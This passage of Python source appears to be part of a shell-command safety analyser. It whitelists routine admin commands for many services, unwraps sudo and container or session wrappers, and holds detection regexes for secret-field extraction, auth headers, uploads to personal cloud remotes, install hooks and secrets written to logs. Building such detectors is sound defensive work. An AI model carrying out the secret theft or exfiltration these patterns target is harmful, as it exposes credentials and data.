    if name == "drbdadm":
        return args[:1] in (["status"], ["dump"], ["adjust"], ["dstate"], ["cstate"], ["role"], ["sh-resources"])
    if name in ("kea-dhcp4", "kea-dhcp6", "kea-ctrl-agent", "kea-dhcp-ddns", "named-checkconf", "named-checkzone"):
        return name.startswith("named-") or args[:1] in (["-t"], ["-T"], ["-v"], ["-V"])  # a settings file checked
    if name == "cobbler":
        # its distributions imported, profiles edited, its files synced (what an install then runs is in them)
        return args[:1] in (["import"], ["sync"], ["check"], ["list"], ["report"], ["status"]) or (
            len(args) >= 2
            and args[0] in ("distro", "profile", "system")
            and args[1] in ("edit", "add", "report", "list")
        )
    if name.startswith(("mmls", "condor_status", "condor_q", "condor_config_val")) or name in (
        "mmcrsnapshot", "condor_reconfig", "mmhealth"
    ):
        return True  # a parallel file system's or a pool's state read, a snapshot taken, its settings reloaded
    if name in ("vboxconfig", "dkms") and (name == "vboxconfig" or args[:1] in (["autoinstall"], ["status"])):
        return True  # kernel modules rebuilt for the running kernel
    if name == "nvidia-ctk":
        return args[:2] in (["runtime", "configure"], ["cdi", "generate"], ["cdi", "list"])  # the GPU runtime wired in
    if name in ("salt-key", "salt-run") and (args[:1] in (["-L"], ["-l"], ["-f"], ["-p"], ["-a"]) or (
        name == "salt-run" and args[:1] and args[0].startswith(("jobs.list", "jobs.lookup", "manage."))
    )):
        return True  # minion keys listed, fingerprinted or one named key accepted; the job cache read
    if name == "puppetserver" and args[:2] in (["ca", "list"], ["ca", "sign"]) and "--all" not in args:
        return True  # pending requests listed, one named node's signed
    if name in ("syspatch", "freebsd-update", "fw_update") and (
        not args or args[:1] in (["-c"], ["-l"], ["fetch"], ["install"], ["cron"])
    ):
        return True  # the base system patched
    if name in ("netbird", "tailscale", "zerotier-cli", "headscale") and args[:1] in (
        ["up"], ["down"], ["status"], ["service"], ["version"], ["join"], ["leave"], ["info"], ["listnetworks"],
        ["login"], ["logout"], ["set"],
    ):
        return True  # a mesh VPN's client brought up or down, its service installed, its state shown
    if name == "openproject" and (args[:2] == ["run", "backup"] or args[:1] in (
        ["configure"], ["reconfigure"], ["logs"], ["restart"], ["config:get"], ["config:set"]
    )):
        return True  # the packaged OpenProject's own backup, settings and logs
    if (name == "omv-salt" and args[:2] == ["deploy", "run"]) or (
        name in ("synoshare", "synouser", "synogroup") and args[:1] in (["--get"], ["--enum"])
    ) or (name == "synowebapi" and any(a in ("method=list", "method=get") for a in args)):
        return True  # a NAS's settings deployed, its shares and accounts listed
    if name in ("iocage", "bastille") and args[:1] in (
        ["fetch"], ["create"], ["start"], ["restart"], ["list"], ["bootstrap"], ["update"]
    ):
        return True  # a jail fetched, made, started or listed (what runs inside it is judged on its own)
    if name == "icinga2":
        # a node joined to its master, its API and certificates set up, a feature switched on, objects listed
        return args[:2] in (["feature", "enable"], ["feature", "list"], ["api", "setup"], ["node", "setup"],
                            ["node", "wizard"], ["object", "list"], ["ca", "list"]) or args[:1] == ["pki"]
    if name == "dokku" and args[:1] in (["cleanup"], ["config:set"], ["config:get"], ["proxy:build-config"],
                                        ["ps:rebuild"], ["ps:start"], ["letsencrypt:enable"], ["domains:add"],
                                        ["letsencrypt:auto-renew"], ["storage:list"]):
        return True  # Dokku's own clean-up, an app's config var set, its proxy or container rebuilt
    if name in ("mkswap", "swapon", "swapoff", "fallocate") and args and all(
        _SWAP_FILE.match(a) or a.startswith("-") or re.fullmatch(r"\d+[KMGT]?", a) for a in args
    ):
        return True  # a swap file made, switched on or off
    if name == "doveconf" and args[:1] in (["-n"], ["-a"]):
        return True  # Dovecot's settings printed
    if name == "prosodyctl":
        return args[:1] in (["status"], ["check"], ["reload"], ["register"], ["adduser"], ["passwd"], ["cert"])
    if name in ("pihole", "pihole-FTL") and (
        args[:1] in (["-g"], ["status"], ["restartdns"], ["-q"], ["--teleporter"], ["-w"], ["-b"], ["allow"], ["deny"])
        or (args[:1] == ["--config"] and len(args) == 2)
    ):
        return True  # Pi-hole's block lists rebuilt, its state or one setting read, its DNS restarted, a backup made
    # (`-s restart`: a service wrapper's control flag, as AdGuard Home's)
    if args and name not in T.SHELLS | T.PYTHONS | T.POWER and all(
        _state_word(a) or _MODULE_STATE_COMMAND.fullmatch(a) or (a == "-s" and k == 0) for k, a in enumerate(args)
    ) and args != ["-s"]:
        # `sudo bbb-conf --check`, `sudo bbb-record --list`, `sudo foo-ctl status`: a service's own tool asked
        # for its state, or told to restart (whatever the vendor)
        return True
    words = [a for a in args if not a.startswith("-")]
    if name not in T.SHELLS | T.PYTHONS | T.POWER | T.OTHER_INTERPRETERS and 2 <= len(words) <= 4 and any(
        _state_word(w) for w in words[:2]
    ) and not any("/" in w or w.lower() in _CHANGING_WORDS for w in words):
        # the same with the part or instance named (`omd status prod`, `icinga2 feature list`, `ceph orch restart
        # rgw.default`): nothing removed, stopped or turned off
        return True
    if name in ("squid", "httpd", "apache2", "apachectl") and args[:1] == ["-k"] and args[1:2] in _DAEMON_SIGNALS:
        return True  # `squid -k reconfigure`, `httpd -k graceful`: the running daemon signalled, its settings checked
    if ((name == "lxd" and args[:1] == ["init"]) or (name == "incus" and args[:2] == ["admin", "init"])) and (
        "--minimal" in args or "--auto" in args
    ):
        return True  # a container manager set up with its defaults
    if args in (["-v"], ["-V"]) and name not in T.SHELLS | T.PYTHONS | T.POWER:
        return True  # `sudo squid -v`: the version it prints
    if name in ("sa-update", "sa-compile") or (name == "spamassassin" and "--lint" in args):
        return True  # SpamAssassin's rules updated, compiled or checked
    if name in ("nats-server", "nginx", "haproxy", "sshd", "apachectl", "mosquitto"):
        return any(a in ("-t", "-T", "configtest", "--test", "--test-config") for a in args)  # its settings checked
    if name == "teleport":
        return args[:1] == ["configure"] or (len(args) >= 2 and args[1] == "configure")  # (`teleport node configure`)
    if name == "graylog-sidecar":
        return args[:2] == ["-service", "install"] or args[:1] == ["-version"]
    if name == "suricatasc":
        return any(a.startswith(("reload-rules", "ruleset-reload", "iface-list", "uptime", "version")) for a in args)
    return name == "suricata-update" and not any("://" in a for a in args)


def _split_short_flags(args: list[str], valued: str) -> list[str]:
    """Leading short options bundled with one that takes a value (``-iu prdadm``) spelled one by one
    (``-i -u prdadm``), so the value is read as the value and the command after it as the command."""
    out: list[str] = []
    for i, arg in enumerate(args):
        if not arg.startswith("-") or arg.startswith("--") or arg == "-":
            return out + list(args[i:])
        letters = arg[1:]
        bundled = len(letters) > 1 and letters.isalpha() and letters[-1] in valued
        if bundled and not any(c in valued for c in letters[:-1]):
            out.extend(f"-{c}" for c in letters)
        else:
            out.append(arg)
    return out


def _names_process(pattern: str, service: str) -> bool:
    """A process pattern names ``service`` itself: not as a folder or a script of an application (`pgrep -f
    'cron/cron.php run-jobs'` is ILIAS's cron script, not the cron daemon)."""
    return any(
        _SCRIPT_OR_FOLDER.match(pattern, found.end()) is None
        for found in re.finditer(re.escape(service), pattern)
    )


_SCRIPT_OR_FOLDER = re.compile(r"/|\.(?:php|py|rb|js|pl|sh)\b")


def _application_console(name: str, args: Sequence[str]) -> str | None:
    """The language an application's own console reads from standard input (``bench --site S console``,
    ``manage.py shell``, ``odoo-bin shell``, ``rails console``, ``artisan tinker``), or None."""
    words = [a for a in args if not a.startswith("-")]
    if (name == "bench" and "console" in words) or (
        # (`funkwhale-manage`; Label Studio's own CLI passes `shell` to Django's)
        # (or a Django project's own manage script by another name: `mayan-edms.py shell`)
        (name in ("manage.py", "odoo", "odoo-bin", "label-studio") or name.endswith(("-manage", "_manage", ".py")))
        and words[:1] == ["shell"]
    ):
        return "python"
    if name in ("rails", "gitlab-rails") and words[:1] in (["console"], ["c"]):
        return "other"
    if (name == "artisan" and words[:1] == ["tinker"]) or (name == "drush" and words[:1] in (["php:cli"], ["php"])):
        return "other"
    return None


def _reads_database_only(argv: list[str]) -> bool:
    """``mysql -e "SHOW …; SELECT …"``, ``psql -c "\\du"``: a database client given only statements that read."""
    if not argv or W.base(argv[0]) not in ("mysql", "mariadb", "psql"):
        return False
    given = W.option_values(argv[1:], "-e", "--execute", "-c", "--command")
    statements = [s.strip() for v in given for s in v.split(";") if s.strip()]
    return bool(statements) and all(re.match(r"(?i)(?:SHOW|SELECT|DESCRIBE|DESC|EXPLAIN)\b|\\", s) for s in statements)


def _su_user(args: list[str]) -> str:
    """The account ``su``/``runuser`` switches to (``root`` when none is named)."""
    named = [a for a in W.options(args, _SU_VALUED)[1] if a != "-"]  # (`su -`: a login shell, not a user)
    return named[0] if named else "root"


_SU_VALUED = frozenset({"-c", "-s", "-g", "-G", "-u", "--command", "--shell", "--group", "--supp-group", "--user"})


def _settings_secret_picked(args: list[str]) -> bool:
    """A jq or yq filter that picks a secret field (`.secret`, `.dbPass`, `.api_key`) from a settings file of the
    system or of an installed application."""
    operands = [a for a in args if not a.startswith("-")]
    if len(operands) < 2 or not _SECRET_FIELD.search(operands[0]):
        return False
    infos = [paths.classify(f) for f in operands[1:]]
    return not any(i.secret for i in infos) and any(
        i.path.endswith((".json", ".yaml", ".yml", ".toml", ".conf"))
        and i.kind in (paths.PathKind.SYSTEM, paths.PathKind.EXTERNAL)
        for i in infos
    )


#: A field a filter picks that holds a credential (`.secret.inbox.string`, `.sql.dbPass`, `.api_key`).
_SECRET_FIELD = re.compile(r"\.\w*(?:secret|passw\w*|pass\b|Pass\b|token|api_?key|private_?key)\w*", re.IGNORECASE)


def _config_check(argv: list[str]) -> bool:
    """``php-fpm8.1 -t``, ``freeradius -XC``, ``named-checkconf``: a daemon parses its configuration and exits."""
    name = re.sub(r"[\d.]+$", "", W.base(argv[0])) if argv else ""
    if name == "python" and argv[1:3] == ["-m", "py_compile"]:
        return True  # a configuration written in Python (a hub's, a site's) checked for syntax errors
    flags = T.CONFIG_CHECKS.get(name)
    if flags is None:
        if argv[1:2] and _CONFIG_SUBCOMMAND.fullmatch(argv[1]):
            return True  # a server's own settings printed or checked (`fleet config_dump`, `gitea doctor check`)
        if name.endswith("d") and any(a in ("-t", "-T") for a in argv[1:2]) and all(
            a in ("-t", "-T", "-c", "-f", "--config", "-C") or not a.startswith("-") for a in argv[1:]
        ):
            return True  # a daemon's `-t` (`cupsd -t -c /etc/cups/cupsd.conf`, like nginx's and sshd's)
        # any daemon told only to check its configuration (`cryomon --check-config FILE`)
        options = {a.split("=", 1)[0] for a in argv[1:] if a.startswith("--")}
        return bool(options & _CHECK_ONLY_OPTIONS) and options <= _CHECK_ONLY_OPTIONS | {"--config", "--conf",
                                                                                           "--config-file"}
    return not flags or any(a in flags for a in argv[1:])


def _user_named_target(args: list[str]) -> bool:
    """`dd of=$DEV`: a target only known at run time (a device chosen by whoever runs it)."""
    targets = [a[3:] for a in args if a.startswith("of=")]
    return bool(targets) and all(t.startswith(HOLE) and paths.classify(t).kind is not paths.PathKind.DEVICE
                                 for t in targets)  # fmt: skip


def _last_command(node: Any) -> Any:
    """The last simple command of a list or pipeline (None for other statements)."""
    while node is not None and node.type in ("list", "pipeline"):
        node = node.named_children[-1] if node.named_children else None
    return node if node is not None and node.type == "command" else None


def _strip_type_options(words: list[str]) -> str:
    """The text `xdotool type [--delay N] [--window W] TEXT` types."""
    i = 0
    while i < len(words) and words[i].startswith("--"):
        i += 2 if words[i] in ("--delay", "--window", "--terminator", "--file") else 1
    return " ".join(words[i:])


def _authenticates(previous: str, word: str) -> bool:
    """``word`` (after ``previous``) is a credential handed to the service as a login, not data."""
    if previous in ("-u", "--user", "--oauth2-bearer", "--proxy-user"):
        return True
    if previous in ("-H", "--header"):
        return word.lower().startswith(_AUTH_HEADERS) or _VENDOR_AUTH_HEADER.match(word) is not None
    return word.startswith("--") and word.lower().startswith(_AUTH_HEADER_OPTIONS)


#: A vendor's own header for its API key or session token (`X-PAN-KEY:`, `X-F5-Auth-Token:`, `X-Cisco-Meraki-API-Key:`).
_VENDOR_AUTH_HEADER = re.compile(r"X-[\w-]*?(?:KEY|TOKEN|AUTH)[\w-]*:", re.IGNORECASE)


_AUTH_HEADERS = ("authorization:", "x-api-key:", "private-token:", "x-auth-token:", "api-key:", "x-goog-api-key:",
                 "x-vault-token:", "x-github-token:", "job-token:", "proxy-authorization:")  # fmt: skip
_AUTH_HEADER_OPTIONS = tuple(f"--header={h}" for h in _AUTH_HEADERS)


def _xargs_replace(args: list[str]) -> str | None:
    """The replace-string of ``xargs -I R`` / ``-IR`` / ``-i`` / ``--replace[=R]``, if any."""
    for i, arg in enumerate(args):
        if not arg.startswith("-"):
            if i > 0 and args[i - 1] in _XARGS_VALUED:
                continue  # `-a hosts.txt`, `-P 32`: an option's value
            return None
        if arg == "-I" and i + 1 < len(args):
            return args[i + 1]
        if arg.startswith("-I") and len(arg) > 2:
            return arg[2:]
        if arg in ("-i", "--replace"):
            return "{}"
        if arg.startswith(("--replace=", "-i")):
            return arg.split("=", 1)[1] if "=" in arg else arg[2:]
    return None


def _printf(fmt: str, args: list[str]) -> str:
    """What ``printf FMT ARGS...`` prints for the conversions that matter here (%s, %d, %b, %c);
    like printf, the format is reused while arguments remain."""
    conversions = re.findall(r"%[-#0 +]*\d*(?:\.\d+)?[sdbcixXu%]", fmt)
    needed = sum(1 for c in conversions if not c.endswith("%"))
    out: list[str] = []
    rest = list(args)
    while True:

        def one(match: re.Match[str]) -> str:
            spec = match.group(0)
            if spec.endswith("%"):
                return "%"
            return rest.pop(0) if rest else ""

        out.append(re.sub(r"%[-#0 +]*\d*(?:\.\d+)?[sdbcixXu%]", one, fmt))
        if not rest or needed == 0:
            break
    return "".join(out)


def _detached_command(argv: list[str]) -> list[str] | None:
    """The command a detached session or a process manager keeps running: ``screen -dmS NAME CMD…``,
    ``tmux new-session -d [-s NAME] 'CMD'``, ``pm2 start PROGRAM [--name N] -- ARGS…``."""
    name = W.base(argv[0])
    if name == "screen" and any(a.startswith("-") and "d" in a and "m" in a for a in argv[1:2]):
        i = 1
        while i < len(argv) and argv[i].startswith("-"):
            # `-dmS NAME`: a session name follows flags ending in S (or -c FILE, -t TITLE)
            i += 2 if argv[i][-1] in "Sct" and argv[i] not in ("-dm", "-md") else 1
        return argv[i:] or None
    if name == "tmux" and argv[1:2] in (["new-session"], ["new"], ["new-window"]) and "-d" in argv:
        rest = W.skip_options(argv[2:], frozenset({"-s", "-n", "-c", "-t", "-x", "-y", "-e", "-F"}))
        return (["sh", "-c", " ".join(rest)] if len(rest) == 1 else rest) or None
    if name == "pm2" and argv[1:2] == ["start"] and len(argv) > 2:
        program = argv[2]
        if " " in program and W.option_values(argv, "--interpreter") in (["bash"], ["sh"], ["zsh"]):
            return ["sh", "-c", program]  # `pm2 start "while …; done" --interpreter bash`: a shell command line
        tail = argv[argv.index("--") + 1 :] if "--" in argv else []
        # `--node-args="--inspect=0.0.0.0:9229"`: the interpreter's own options, as node is started
        runtime = [w for v in W.option_values(argv, "--node-args", "--interpreter-args") for w in v.split()]
        return ["node", *runtime, program, *tail] if runtime else [program, *tail]
    return None


def _container_exec_command(argv: list[str]) -> list[str] | None:
    """The command a container runs for ``docker exec [options] CONTAINER CMD…`` (podman's, nerdctl's, ``docker
    compose exec SERVICE CMD…``, ``kubectl exec POD -- CMD…``), or None when ``argv`` is no such command."""
    name = W.base(argv[0]) if argv else ""
    args = argv[1:]
    if name == "kubectl":
        return args[args.index("--") + 1 :] or None if "exec" in args and "--" in args else None
    if name == "docker-compose":
        name, args = "docker", ["compose", *args]
    if name not in ("docker", "podman", "nerdctl"):
        return None
    if args[:1] == ["compose"]:
        args = W.skip_options(args[1:], _COMPOSE_VALUED)
    if args[:1] == ["container"]:
        args = args[1:]
    if args[:1] != ["exec"]:
        return None
    rest = W.skip_options(args[1:], T.CONTAINER_VALUED)
    return rest[1:] or None


#: The command line a container's command or entrypoint array hands a shell (`["/bin/sh", "-c", "…"]`).
_SHELL_ARRAY_COMMAND = re.compile(r"[\"']-c[\"']\s*,\s*\"((?:[^\"\\]|\\.)+)\"")
#: A listing of the branches already merged into another (`git branch -r --merged origin/main`).
_MERGED_BRANCHES = re.compile(rb"\bgit\s+branch\b[^\n|;&]*\s--merged\b")


def stdin_code_language(argv: Sequence[str], *, inside_only: bool = False) -> str | None:
    """The language of the code ``argv`` reads on its standard input, when it is an interpreter or an application's
    console given no script (``python3``, ``sh -s``, ``manage.py shell``), behind ``sudo`` or inside a container
    (``docker exec -i app python3 -``); None for any other command. ``inside_only``: only a container's, or an
    application console's (a bare interpreter's input is read where the caller reads it already)."""
    argv = W.unwrapped(argv, ("sudo", "doas", "nice", "ionice", "timeout")) or list(argv)
    inner = _container_exec_command(argv)
    command = inner or argv
    if not command:
        return None
    name = W.base(command[0])
    operands = [a for a in command[1:] if not a.startswith("-")]
    console = _application_console(W.base(operands[0]), operands[1:]) if operands and (
        name in T.PYTHONS or name.startswith("python")
    ) else _application_console(name, command[1:])  # (`python3 manage.py shell`, `./manage.py shell`)
    if console is not None:
        return console
    if inside_only and inner is None:
        return None
    if name in T.SHELLS and "-c" not in command and (not operands or "-s" in command):
        return "shell"
    if (name in T.PYTHONS or name.startswith("python")) and (not operands or command[1:2] == ["-"]) and not any(
        a in ("-c", "-m") for a in command[1:]
    ):
        return "python"
    return None


def _interpreter_language(argv: list[str]) -> str | None:
    """The language a command runs from its stdin: a shell, ``source /dev/stdin``, python..."""
    name = W.base(argv[0])
    if name in T.SHELLS or (name in ("source", ".") and argv[1:2] in (["/dev/stdin"], ["/proc/self/fd/0"], ["-"])):
        return "shell"
    if name in T.PYTHONS or name.startswith("python"):
        return "python"
    if name in T.OTHER_INTERPRETERS or (name == "rails" and ("runner" in argv[1:3] or argv[1:2] == ["r"])):
        return "other"
    if (name == "bundle" and argv[1:2] == ["exec"] and len(argv) > 2) or (
        name == "splunk" and argv[1:2] == ["cmd"] and len(argv) > 2
    ):
        return _interpreter_language(argv[2:])  # `bundle exec rails runner -`, `splunk cmd python3 -`
    if name in ("ssh", "autossh") and len(W.options(argv[1:], T.SSH_VALUED)[1]) == 1:
        return "shell"  # `ssh host <<'EOS' … EOS`: the remote login shell runs the here-document
    return _application_console(name, argv[1:])  # `./manage.py shell <<'PY'`, `label-studio shell <<'PY'`


def _first_error(node: Any) -> Any:
    stack = [node]
    while stack:
        current = stack.pop(0)
        if current.type == "ERROR" or current.is_missing:
            return current
        stack.extend(c for c in current.children if c.has_error or c.is_missing)
    return None


_STATEMENT_HANDLERS: dict[str, Callable[[ShellAnalyzer, Any], _Flow]] = {
    "program": ShellAnalyzer._sequence,
    "list": ShellAnalyzer._sequence,
    "compound_statement": ShellAnalyzer._sequence,
    "subshell": ShellAnalyzer._sequence,
    "do_group": ShellAnalyzer._sequence,
    "pipeline": ShellAnalyzer._pipeline,
    "command": ShellAnalyzer._command,
    "redirected_statement": ShellAnalyzer._redirected,
    "variable_assignment": ShellAnalyzer._assignment,
    "declaration_command": ShellAnalyzer._declaration,
    "unset_command": ShellAnalyzer._unset,
    "function_definition": ShellAnalyzer._function,
    "for_statement": ShellAnalyzer._for,
    "while_statement": ShellAnalyzer._while,
    "case_statement": ShellAnalyzer._branch,
    "if_statement": ShellAnalyzer._branch,
    "command_substitution": ShellAnalyzer._sequence,
    "process_substitution": ShellAnalyzer._sequence,
}

_Rule = Callable[[ShellAnalyzer, str, list[str], Any, _Flow], None]
_ASSIGNMENT_WORD = re.compile(r"^[A-Za-z_]\w*=")
_INSTALL_SCRIPT_KEY = re.compile(
    r"\.scripts\.(?:pre|post)?install\b|\.scripts\.prepare\b|\.scripts\[\"(?:pre|post)?install")
#: Cloud operations that start machines.
_LAUNCHES = ("runinstances", "requestspotinstances", "requestspotfleet", "createfleet", "instancescreate",
             "vmcreate", "vmsscreate")  # fmt: skip
#: `IID=$(aws ec2 run-instances ...)`: a variable holding what the script itself created.
#: A variable holding the pid a pid file of the project keeps (`PID=$(cat run/worker.pid)`).
_OWN_PID_VAR = re.compile(r"\b(\w+)=[\"']?\$\((?:cat|<)\s+[\"']?(?!/proc)[\w./-]*\.pid[\"']?\)")
_CREATED_RESOURCE = re.compile(
    r"\b([A-Za-z_]\w*)=\$\(\s*(?:aws|gcloud|az|doctl)\s+[\w.-]+\s+(?:run-instances|create\b|create-[\w-]+)"
)
#: `kubectl create namespace "$NS"`: a namespace this script makes (a test's, removed at the end).
#: An ACL entry letting every other user write (`o::rwx`, `other::rw-`, the default entry `d:o::rwx` too).
_OTHERS_WRITE_ACL = re.compile(r"(?:^|,)(?:d(?:efault)?:)?o(?:ther)?::r?w")
_CREATED_NAMESPACE = re.compile(r"\bkubectl\s+create\s+(?:namespace|ns)\s+[\"']?\$\{?([A-Za-z_]\w*)")
#: kubectl contexts of clusters on this machine (kind, k3d, minikube, Docker Desktop): a developer's own.
_LOCAL_CLUSTER = re.compile(r"(?:kind-|k3d-|minikube\b|docker-desktop\b|rancher-desktop\b|colima\b|microk8s\b)")
_KAFKA_HARM = re.compile(r"--reset-offsets\b.*--to-earliest\b.*--execute|retention\.(?:ms|bytes)=\d{1,4}\b")
#: Launchers that run a command on the nodes of a cluster, with their options that take a separate value.
_PARALLEL_LAUNCHERS: dict[str, set[str]] = {
    "srun": {"-N", "-n", "-c", "-p", "-t", "-A", "-J", "-o", "-e", "-w", "-x", "-G", "-q", "--nodes", "--ntasks",
             "--partition", "--time", "--account", "--job-name", "--gres", "--mem", "--qos"},
    "mpirun": {"-np", "-n", "-N", "-H", "--host", "-hostfile", "--hostfile", "-x", "--map-by", "--bind-to", "-ppn"},
    "mpiexec": {"-np", "-n", "-N", "-H", "--host", "-hostfile", "--hostfile", "-x", "--map-by", "--bind-to", "-ppn"},
}  # fmt: skip
#: The file a psql ``\copy (…) TO 'file'`` (or ``COPY … TO 'file'``) writes.
_COPY_TO_FILE = re.compile(r"\bTO\s+'([^']+)'", re.IGNORECASE)
#: An environment variable read by name in Perl, Ruby, Python, Node or PHP code.
_ENV_REFERENCE = re.compile(
    r"""\$ENV\{['"]?(\w+)|\bENV\[['"](\w+)|environ\[['"](\w+)|getenv\(['"](\w+)|process\.env\.(\w+)"""
)
def _env_names(code: str) -> list[str]:
    """The environment variables ``code`` (Perl, Ruby, Python, Node, PHP) reads by name."""
    if "ENV" not in code and "env" not in code:
        return []
    return [next(g for g in m.groups() if g) for m in _ENV_REFERENCE.finditer(code)]


#: A signal given by name or number (``-HUP``, ``-SIGTERM``, ``-9``, ``-USR1``).
_SIGNAL_OPTION = re.compile(r"-(?:SIG)?[A-Z]{2,}[0-9]?|-\d+")
#: Namespaces of admission policy engines and runtime security agents.
_POLICY_ENGINES = ("kyverno", "gatekeeper", "falco", "opa", "kubewarden")
#: PowerShell options that take a value (matched lower case; PowerShell accepts any case and prefix).
_POWERSHELL_VALUED = frozenset({"-w", "-windowstyle", "-exec", "-executionpolicy", "-ep", "-ex", "-version", "-v",
                                "-inputformat", "-outputformat", "-configurationname", "-psconsolefile"})  # fmt: skip
#: A temporary or upload folder inside a web root (visitors' files land there).
_WEB_UPLOAD_TEMP = re.compile(r"^/var/www/[^/]+/(?:[^/]+/)*(?:temp|tmp|uploads?|incoming)/")
#: A site of a web server (nginx's, Apache's), and the server's own check of its configuration.
_WEB_SITE_CONFIG = re.compile(r"^/etc/(?:nginx/(?:sites-available|sites-enabled|conf\.d)|apache2/sites-available"
                              r"|httpd/conf\.d)/[\w.-]+$")  # fmt: skip
_WEB_CONFIG_TEST = re.compile(r"\bnginx\s+-t\b|\bapache(?:2)?ctl\s+(?:-t|configtest)\b|\bhttpd\s+-t\b")
#: Images that only register binfmt emulators with the kernel (run privileged for that).
_BINFMT_IMAGE = re.compile(r"^(?:docker\.io/)?(?:tonistiigi/binfmt|multiarch/qemu-user-static)(?::[\w.-]+)?$")
#: A pull request's preview environment (`-chdir=envs/preview`, a workspace `pr-123`).
_PREVIEW_WORKSPACE = re.compile(r"(?:^|[/=_-])(?:preview|review)(?:$|[/_-])|(?:^\"?|[/=_-])(?:pr|mr)-(?:\d+|\x00)")
#: A resource a CI job names for itself (`ci-e2e-$CI_PIPELINE_ID`, `smoke-1234`, `test-runner-…`).
_CI_RESOURCE = re.compile(r"[\"']?(?:ci|e2e|smoke|test)-[\w\x00-]*(?:\d|\x00)")
#: A listing picked by a label naming preview, review or test environments (`kubectl get ns -l env=preview`).
_PREVIEW_SELECTOR = re.compile(
    r"\b(?:kubectl|oc)\s+get\b[^\n|]*(?:\s-l\s*|--selector[= ])['\"]?[\w./-]+="
    r"(?:preview|review|ephemeral|e2e|ci|test)\b"
)
#: rclone writing its standard input to a remote named as someone's own (`personal-drive:`, `mega:`).
_PERSONAL_RCAT = re.compile(r"\brcat\s+[\"']?(?:personal|private|my|home|mega|pcloud|gdrive-personal)[\w-]*:", re.I)
#: A sed script that only deletes the lines a pattern matches (`/ bob@laptop$/d`).
_SED_LINE_DELETE = re.compile(r"/[^/]+/d|\\(.)[^\n]+\1d")
#: A pre-release tag (`v2.0.0-rc.1`, `1.4.0b2`, `v3.0.0-alpha`), not a release's.
_PRERELEASE_TAG = re.compile(r"refs/tags/[\w./-]*?\d[\w.]*?[-.]?(?:rc|alpha|beta|a|b|dev|pre)\.?\d*$", re.I)
#: Services of the operating system that hardening scripts and appliances mask (printing, discovery, updates).
_OPTIONAL_OS_UNITS = frozenset({"avahi-daemon", "cups", "cups-browsed", "bluetooth", "rpcbind", "unattended-upgrades",
                                "packagekit", "snapd", "modemmanager", "motd-news", "whoopsie", "apport", "kdump",
                                "nfs-server", "rpc-statd", "telnet", "tftp", "vsftpd", "xinetd", "nis", "ypbind",
                                "sleep", "suspend", "hibernate", "hybrid-sleep", "ctrl-alt-del", "fwupd",
                                "wpa_supplicant", "networkmanager-wait-online", "getty@tty1", "plymouth"})  # fmt: skip
#: Push-notification and messaging APIs (FCM, APNs, Twilio, chat webhooks).
_PUSH_OR_MESSAGE_API = re.compile(r"fcm\.googleapis\.com|api\.push\.apple\.com|/messages(?::send|\.json)?\b"
                                  r"|/notifications?\b|api\.twilio\.com|hooks\.slack\.com|/calendars/[^/\s]+/events"
                                  r"|/events\?sendUpdates=all"
                                  # transactional mail APIs (SendGrid, Mailgun, Postmark, SES, Brevo)
                                  r"|/mail/send\b|/v3/[^/\s]+/messages\b|api\.postmarkapp\.com/email|/v2/email/outbound-emails"
                                  r"|/smtp/email\b", re.I)  # fmt: skip
#: Ports whose protocols send passwords in clear (FTP, telnet, SMTP, POP3, IMAP, LDAP, MySQL, Redis).
_CLEARTEXT_LOGIN_PORTS = frozenset({"21", "23", "25", "110", "143", "389", "3306", "6379"})
#: A staging or test host of the organisation (`staging.example.com`, `api.qa.example.net`).
_STAGING_NAME = re.compile(
    r"^(?:staging|stage|stg|test|qa|uat|preprod|sandbox)[\w-]*\.|[.-](?:staging|stg|qa|uat|preprod)\."
)
#: A host name of an organisation's own network (``pbx1.acme-internal.net``, ``db.corp.local``).
_INTERNAL_NAME = re.compile(
    r"\.(?:internal|local|lan|corp|intranet|home\.arpa)$|[.-](?:internal|corp|intranet)\.|^[\w-]+$"
)
#: SMS APIs' send endpoints (Twilio, Vonage, Plivo, MessageBird).
_MESSAGE_SEND = re.compile(r"/Messages(?:\.json)?\b|rest\.nexmo\.com/sms|/sms/json|/Message/?\s|/messages\b", re.I)
#: A grep pattern naming settings (``^(db_host|http_port)\s*=``, ``^server_name``) rather than matching anything.
#: (a name may end in a character class: `limit_[a-z_]+` for every `limit_…` setting)
_NAMED_SETTINGS = re.compile(
    r"^\^?\(?[A-Za-z_][\w.-]{2,}(?:\[[\w-]+\][+*]?|\([\w.|-]+\)[\w.-]*)?"
    r"(?:\|[A-Za-z_][\w.-]{2,}(?:\[[\w-]+\][+*]?|\([\w.|-]+\)[\w.-]*)?)*\)?(?:\\s\*|\s|\*|=|:|$)"
)  # (a name's alternatives grouped too: `^(ALLOW_(REGISTRATION|EMAIL_LOGIN)|DOMAIN_CLIENT)=`)
#: A test that the application has no key yet (`if ! grep -qE '^APP_KEY=.+' .env; then …`): a new install's first.
_NO_KEY_YET = re.compile(r"!\s*grep\b[^\n]*\bAPP_KEY=\.|grep\b[^\n]*\bAPP_KEY=\.[^\n]*\|\||-z\s+\"?\$\{?APP_KEY\b")
#: A process named by its pid file (`"$(cat "$PIDFILE")"`, `$(cat /run/app/app.pid)`).
_FROM_PID_FILE = re.compile(r"\$\(\s*cat\s+[\"']?(?:\$\{?\w*PID\w*\}?|[^\s\"')]*\.pid)\b", re.IGNORECASE)
#: A compose file of a test, CI or development stack (`docker-compose.test.yml`, `compose.dev.yaml`).
_THROWAWAY_COMPOSE = re.compile(r"(?:^|[._-])(?:test|tests|testing|dev|ci|e2e|local)(?:[._-]|$)", re.IGNORECASE)
#: A scan whose results the script acts on: in a command substitution, or piped on to a loop or xargs.
_SCAN_FEEDS_COMMANDS = re.compile(r"\$\(\s*(?:sudo\s+)?nmap\b|`\s*(?:sudo\s+)?nmap\b"
                                  r"|\bnmap\b[^\n]*\|\s*(?:while|xargs)\b|\bnmap\b[^\n]*\|[^\n]*\|\s*(?:while|xargs)\b")
#: A service's control tool by its name's ending (`rabbitmqctl`, `patronictl`, `netdatacli`, `zerotier-cli`), not the
#: machine's own (systemctl and the cluster's kubectl have rules of their own).
_SERVICE_CONTROL_TOOL = re.compile(r"(?!systemctl$|kubectl$|journalctl$)[\w.-]+(?:ctl|cli|adm)")
#: Words of a setting's name that say it holds a secret (URLs and DSNs carry passwords: `smb://user:pass@host`).
#: Words of a secret written into a log line (`password=`, `Authorization: Bearer …`, `token`).
_LOGGED_SECRET = re.compile(r"passw|secret|token|pwd|authorization|bearer|api.?key|private", re.IGNORECASE)
#: Log lines about logins rather than their secrets (`Failed password for`, `Accepted password`).
_LOGIN_EVENT = re.compile(r"fail|invalid|accepted|denied", re.IGNORECASE)
